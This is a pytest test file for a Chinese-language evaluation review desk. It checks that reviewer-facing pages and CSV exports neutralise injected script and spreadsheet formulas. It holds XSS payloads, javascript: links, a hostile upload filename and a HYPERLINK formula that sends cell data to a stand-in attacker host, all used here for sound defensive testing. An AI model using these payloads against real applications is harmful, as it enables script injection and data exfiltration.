"""Strangers' words at the review desk: nothing of them runs, in a browser or in a spreadsheet."""

import csv
import io
from dataclasses import replace
from hashlib import sha256

import pytest

from data.archive import Archive
from data.people import Person, Role
from data.reviews import Assignment
from data.store import Store
from data.types import Evidence, Fetch, FetchOutcome, Judgement, Mark, Outcome
from tests import rounds
from tests.commands import gkc
from tests.desks import at_desk, narrowed, served_desk
from tests.test_screens import settled
from tests.test_uploads import PNG

ALERT = "<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"
MARKDOWN = "[点我](javascript:alert(4)) ![图](http://evil.invalid/p.png) :red[红] $x$"
HOSTILE = ALERT + MARKDOWN
FORMULA = '=HYPERLINK("http://evil.invalid/"&A1,"点我")'
# What would be there if anything of it had become markup, or had been asked of its server.
MARKUP = "main img[src='x'], img[src*='evil'], a[href^='javascript'], svg[onload], [onerror]"
SCRIPTS = """() => [...document.querySelectorAll('script')]
  .filter(script => script.textContent.includes('alert(')).length"""


def hostile_page(var):
    """Evidence whose title and text are a stranger's markup."""
    body = (
        f"<html><title>{HOSTILE}&lt;script&gt;alert(5)&lt;/script&gt;</title><body>"
        f"<p>第一行 &lt;script&gt;alert(6)&lt;/script&gt; {ALERT}</p></body></html>"
    ).encode()
    url = "http://poor.localhost/?q=<script>alert(7)</script>"
    digest = sha256(body).hexdigest()
    answer = Fetch(url, FetchOutcome.OK, rounds.AT, 200, sha256=digest)
    kind = [("Content-Type", "text/html; charset=utf-8")]
    with Archive(var / "evidence" / "r1").write("poor") as writer:
        name, offset, _ = writer.append(answer, kind, body)
    return Evidence(url, HOSTILE, rounds.AT, digest, name, offset)


def hostile_round(url, var):
    """A unit's name, a reason, a quote, an address and a page that are a stranger's markup."""
    page = hostile_page(var)
    poor = replace(rounds.POOR, name=HOSTILE)
    found = rounds.poor_findings(page)
    found["report"] = replace(found["report"], reason=HOSTILE)
    bad = Evidence("javascript:alert(8)", HOSTILE)
    found["fresh"] = replace(found["fresh"], reason=HOSTILE, evidence=(bad,))
    rounds.fill_heavy(url, page, poor, found)


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    with served_desk(folder, lambda url: hostile_round(url, folder / "var")) as opened:
        yield opened


def harmless(tab):
    settled(tab)
    assert tab.get_by_test_id("stException").count() == 0
    assert tab.dialogs == []
    assert tab.locator(MARKUP).count() == 0
    assert tab.evaluate(SCRIPTS) == 0


def test_strangers_markup_does_nothing_at_the_desk(browser, served):
    tab = at_desk(browser, served, "anna")
    asked = []
    tab.on("request", lambda request: asked.append(request.url))
    narrowed(tab, 状态="失分待确认")
    tab.get_by_text("失 10.00 分").first.wait_for()
    tab.get_by_text("第一行").first.wait_for()  # the archived page, as text
    assert tab.get_by_text("alert(1)").count() > 3  # there to be read
    harmless(tab)
    tab.locator("summary").filter(has_text="评审备注").click()
    tab.get_by_role("textbox", name="写给其他评审人员").fill(HOSTILE)
    tab.get_by_role("button", name="添加备注").click()
    tab.get_by_text("评审备注（1）").wait_for()
    harmless(tab)
    tab.get_by_role("textbox", name="理由").fill(HOSTILE)
    tab.get_by_role("button", name="保存并下一项").click()
    tab.get_by_text("已保存").wait_for()
    harmless(tab)
    narrowed(tab, 状态="已评")
    tab.get_by_role("button", name="撤销我的意见").wait_for()
    assert tab.get_by_text("alert(1)").count() > 3
    harmless(tab)
    tab.get_by_role("radio", name="同一指标比较").click()
    tab.get_by_role("button", name="打开这一项").wait_for()
    harmless(tab)
    assert [url for url in asked if "evil" in url] == []


def test_a_file_with_a_hostile_name_is_only_a_name(browser, served):
    tab = at_desk(browser, served, "rita")
    narrowed(tab, 单位="甲局", 指标="B2 解读质量")
    tab.get_by_role("heading", name="甲局 · B2 解读质量").wait_for()
    settled(tab)
    name = "<img src=x onerror=alert(9)>.png"
    tab.locator("input[type=file]").set_input_files(
        {"name": name, "mimeType": "image/png", "buffer": PNG}
    )
    tab.get_by_text("证据文件（1）").wait_for()
    harmless(tab)
    with Store(served[1]) as store:
        [kept] = store.uploads("r1", ("good", "quality"))
    assert kept.name == "_img src_x onerror_alert(9)_.png"


# --- spreadsheets ---------------------------------------------------------------------------------


def test_no_cell_of_an_export_runs_as_a_formula(tmp_path):
    url = f"sqlite:///{tmp_path / 'var' / 'gkc.db'}"
    rounds.fill(url, poor=replace(rounds.POOR, name=FORMULA))
    anna = Person("=anna", "安", Role.EVALUATOR)
    with Store(url) as store:
        said = Judgement("poor", "budget", Outcome.MET, FORMULA, anna.id, rounds.AT)
        store.record("r1", [(said, 0)], anna)
        bo = Person("@bo", "柏", Role.EVALUATOR)
        store.assign("r1", [Assignment("poor", "budget", bo.id, Mark.BLIND)], rounds.AT, "office")
        store.record("r1", [(replace(said, by=bo.id, mark=Mark.BLIND), 0)], bo)
    for command in (("queue", "r1", "--all"), ("agreement", "r1")):
        done = gkc(tmp_path, "review", *command, "--format", "csv")
        assert done.code == 0, done.err
        cells = [cell for row in csv.reader(io.StringIO(done.out)) for cell in row]
        assert [cell for cell in cells if cell[:1] in {"=", "+", "-", "@"}] == []
        assert any(cell.startswith("'") for cell in cells)
